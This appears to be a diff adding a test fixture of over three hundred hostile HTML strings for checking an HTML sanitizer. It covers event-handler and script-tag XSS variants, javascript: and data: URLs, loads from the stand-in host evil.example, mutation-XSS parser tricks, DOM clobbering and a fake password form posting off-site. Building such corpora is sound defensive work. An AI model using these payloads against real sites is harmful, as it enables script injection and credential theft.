@@ -1,0 +1,253 @@
+/**
+ * Bodies that try to run, to load from elsewhere or to pass for a part of the portal. Each would set `window.ran` or ask
+ * `evil.example` for something, were it shown as it is.
+ */
+const RUN = 'window.ran=1';
+const EVIL = 'https://evil.example';
+
+const ELEMENTS = [
+  'p',
+  'a',
+  'img',
+  'svg',
+  'math',
+  'video',
+  'input',
+  'details',
+  'marquee',
+  'b',
+  'table',
+  'x-foo',
+  'button',
+];
+const EVENTS = [
+  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin'],
+  ...[
+    'onpointerenter',
+    'onbeforematch',
+    'oncontentvisibilityautostatechange',
+    'onscrollend',
+    'ONERROR',
+    'oNlOaD',
+  ],
+];
+
+/** Handlers, however they are written. */
+const handlers = ELEMENTS.flatMap((element, index) =>
+  EVENTS.filter((_, place) => (place + index) % 2 === 0).map(
+    (event) => `<${element} src=x tabindex=0 autofocus open ${event}="${RUN}">text</${element}>`,
+  ),
+);
+const brokenHandlers = [
+  `<img src=x onerror=${RUN}>`,
+  `<img src=x onerror ='${RUN}'>`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src="x\`" onerror="${RUN}">`,
+  `<img src=x:x onerror="${RUN}"//`,
+  `<img """><script>${RUN}</script>">`,
+  `<img src='x' onerror\n=\n"${RUN}">`,
+  `<p title="</p><img src=x onerror=${RUN}>">text</p>`,
+  `<a title='"><img src=x onerror=${RUN}>' href="https://bank.example">text</a>`,
+  `<abbr title="&quot;><img src=x onerror=${RUN}>">text</abbr>`,
+  `<p lang='en" onclick="${RUN}'>text</p>`,
+  `<p lang="&quot; onmouseover=&quot;${RUN}">text</p>`,
+];
+
+/** Scripts and what reads like one. */
+const scripts = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT>${RUN}</SCRIPT>`,
+  `<script src="${EVIL}/a.js"></script>`,
+  `<script/x>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `<script\u0000>${RUN}</script>`,
+  `<script type=module>import "${EVIL}/a.js"</script>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="${EVIL}/a.js"/></svg>`,
+  `<svg><script xlink:href="data:text/javascript,${RUN}"/></svg>`,
+  `<math><script>${RUN}</script></math>`,
+  `<noscript><p title="</noscript><script>${RUN}</script>"></noscript>`,
+  `<template><script>${RUN}</script></template>`,
+  `<table><script>${RUN}</script></table>`,
+  `<select><script>${RUN}</script></select>`,
+  `<!--><script>${RUN}</script>-->`,
+  `<!--<!--><script>${RUN}</script>-->`,
+  `<!--!><script>${RUN}</script>-->`,
+  `<![CDATA[<script>${RUN}</script>]]>`,
+  `<?xml version="1.0"?><script>${RUN}</script>`,
+  `<!doctype html [<!ENTITY x "<script>${RUN}</script>">]>&x;`,
+  `<plaintext><script>${RUN}</script>`,
+  `<xmp><script>${RUN}</script></xmp>`,
+  `<script>${RUN}`,
+  `</script><script>${RUN}</script>`,
+];
+
+/** Addresses that run. */
+const SCHEMES = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `java\rscript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A;&#x61;vascript:${RUN}`,
+  `&#0000106avascript:${RUN}`,
+  `javascript&colon;${RUN}`,
+  `java&Tab;script:${RUN}`,
+  `java&NewLine;script:${RUN}`,
+  `javascript://bank.example/%0a${RUN}`,
+  `vbscript:msgbox(1)`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg onload=${RUN}>`,
+  `blob:https://bank.example/x`,
+  `file:///etc/passwd`,
+  `view-source:${EVIL}`,
+  `//evil.example/x`,
+  `\\\\evil.example\\x`,
+  `https:\\\\evil.example`,
+  `http://evil.example/`,
+  `page:help" onclick="${RUN}`,
+  `page:../../u/dashboard`,
+  `promotion:DIN01?x=javascript:${RUN}`,
+  `mailto:a@bank.example\njavascript:${RUN}`,
+  `tel:${RUN}`,
+];
+const HOLDERS: readonly ((address: string) => string)[] = [
+  (address) => `<a href="${address}">text</a>`,
+  (address) => `<a href='${address}'>text</a>`,
+  (address) => `<svg><a xlink:href="${address}"><text>text</text></a></svg>`,
+  (address) => `<form action="${address}"><button>text</button></form>`,
+  (address) => `<iframe src="${address}"></iframe>`,
+];
+const addresses = SCHEMES.flatMap((address, index) =>
+  HOLDERS.filter((_, place) => place === 0 || (place + index) % 2 === 0).map((hold) => hold(address)),
+);
+
+/** What loads without being asked. */
+const loads = [
+  ...['img', 'video', 'audio', 'iframe', 'embed', 'source', 'track', 'input type=image'].map(
+    (tag) => `<${tag} src="${EVIL}/x">`,
+  ),
+  `<img srcset="${EVIL}/x 1x">`,
+  `<picture><source srcset="${EVIL}/x"><img></picture>`,
+  `<video poster="${EVIL}/x"></video>`,
+  `<object data="${EVIL}/x"></object>`,
+  `<link rel=stylesheet href="${EVIL}/x.css">`,
+  `<link rel=preload as=image href="${EVIL}/x">`,
+  `<link rel=dns-prefetch href="//evil.example">`,
+  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
+  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
+  `<base href="${EVIL}/"><a href="page:help">text</a>`,
+  `<base target=_top>`,
+  `<body background="${EVIL}/x">text</body>`,
+  `<table background="${EVIL}/x"><tr><td background="${EVIL}/y">text</td></tr></table>`,
+  `<style>@import "${EVIL}/x.css";</style>`,
+  `<style>body{background:url(${EVIL}/x)}</style>`,
+  `<p style="background:url(${EVIL}/x)">text</p>`,
+  `<p style="background-image:\\75rl(${EVIL}/x)">text</p>`,
+  `<p style="behavior:url(${EVIL}/x);-moz-binding:url(${EVIL}/x)">text</p>`,
+  `<p style="width:expression(${RUN})">text</p>`,
+  `<svg><image href="${EVIL}/x"/></svg>`,
+  `<svg><use href="${EVIL}/x#y"/></svg>`,
+  `<svg><feImage href="${EVIL}/x"/></svg>`,
+  `<svg><foreignObject><img src="${EVIL}/x"></foreignObject></svg>`,
+  `<math href="javascript:${RUN}">text</math>`,
+  `<a ping="${EVIL}/x" href="https://bank.example">text</a>`,
+  `<a href="https://bank.example" target=_blank rel=opener download attributionsrc="${EVIL}">text</a>`,
+  `<script nomodule src="${EVIL}/x.js"></script>`,
+  `<frameset><frame src="${EVIL}"></frameset>`,
+  `<portal src="${EVIL}"></portal>`,
+  `<html manifest="${EVIL}/x"><p>text</p></html>`,
+];
+
+/** What is harmless to one parser and not to the next. */
+const mutations = [
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
+  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
+  `<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${RUN} src=x>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
+  `<noscript><style></noscript><img src=x onerror=${RUN}></style>`,
+  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
+  `<title><p title="</title><img src=x onerror=${RUN}>">`,
+  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
+  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
+  `<noframes><p title="</noframes><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<style><p title="</style><img src=x onerror=${RUN}>">`,
+  `<template><p title="</template><img src=x onerror=${RUN}>">`,
+  `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${RUN}>">`,
+  `<svg><desc><table><thead><s></table></s><table><thead><s></table></s><img src=x onerror=${RUN}></desc></svg>`,
+  `<svg><title><a href="</title><img src=x onerror=${RUN}>">`,
+  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
+  `<p><svg><foreignObject><p><style><!--</style><img src=x onerror=${RUN}>--></svg>`,
+  `<table><tr><td><form><table><img src=x onerror=${RUN}></table></form></td></tr></table>`,
+  `<ol><li><ol></li><img src=x onerror=${RUN}></ol>`,
+  `<a><table><a href="javascript:${RUN}">text</a></table></a>`,
+  `<b><p><b><p><img src=x onerror=${RUN}></b></p></b>`,
+  `<x/><y/><z onclick=${RUN}>text`,
+  `&lt;img src=x onerror=${RUN}&gt;`,
+  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
+  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
+  `\u2028<script>${RUN}</script>\u2029`,
+  `＜script＞${RUN}＜/script＞`,
+  `<\u0131mg src=x onerror=${RUN}>`,
+  `<img\u000bsrc=x\u000conerror=${RUN}>`,
+  `<p>${'<b>'.repeat(400)}<img src=x onerror=${RUN}>`,
+  `<p>${'<table><tr><td>'.repeat(60)}<img src=x onerror=${RUN}>`,
+  `<svg>${'<g>'.repeat(200)}<script>${RUN}</script>`,
+  `<math>${'<mrow>'.repeat(200)}<mtext><img src=x onerror=${RUN}>`,
+];
+
+/** What would pass for the portal, or take its names over. */
+const disguises = [
+  `<form action="${EVIL}"><label>Password <input type=password name=password></label><button>Log on</button></form>`,
+  `<input form=x name=password type=password>`,
+  `<button formaction="javascript:${RUN}">text</button>`,
+  `<a id=root name=root href="https://bank.example">text</a>`,
+  `<img name=getElementById>`,
+  `<form id=document><input name=cookie></form>`,
+  `<p id=main class=visually-hidden role=dialog aria-modal=true tabindex=0>text</p>`,
+  `<dialog open>Your session is over<a href="http://evil.example">Log on</a></dialog>`,
+  `<p style="position:fixed;inset:0;z-index:9999">text</p>`,
+  `<p contenteditable accesskey=x draggable=true popover>text</p>`,
+  `<div slot=x is=x-foo><slot></slot></div>`,
+  `<p shadowrootmode=open><template shadowrootmode=open><script>${RUN}</script></template></p>`,
+  `<object type="text/html" data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<applet code=x archive="${EVIL}"></applet>`,
+  `<isindex action="${EVIL}" prompt=text>`,
+  `<keygen name=x onfocus=${RUN} autofocus>`,
+  `<svg><animate attributeName=href values="javascript:${RUN}" /></svg>`,
+  `<svg><a><animate attributeName=href to="javascript:${RUN}"/><text>text</text></a></svg>`,
+  `<svg><set attributeName=onload to="${RUN}"/></svg>`,
+  `<svg onload="${RUN}"><g/onload="${RUN}"/></svg>`,
+  `<svg/onload=${RUN}>`,
+  `<svg><handler type="text/javascript" ev:event=load>${RUN}</handler></svg>`,
+  `<details open ontoggle=${RUN}>text</details>`,
+  `<video><source onerror=${RUN}></video>`,
+  `<audio src onloadstart=${RUN}>`,
+  `<body onload=${RUN}>text`,
+  `<body onpageshow=${RUN}><input autofocus onfocus=${RUN}>`,
+  `<marquee onstart=${RUN}>text</marquee>`,
+  `<h1 onclick=${RUN}>text</h1><h6 onclick=${RUN}>text</h6>`,
+  `<td onclick=${RUN}>text</td>`,
+];
+
+/** At least three hundred, no two the same. */
+export const HOSTILE_HTML: readonly string[] = [
+  ...new Set([
+    ...handlers,
+    ...brokenHandlers,
+    ...scripts,
+    ...addresses,
+    ...loads,
+    ...mutations,
+    ...disguises,
+  ]),
+];
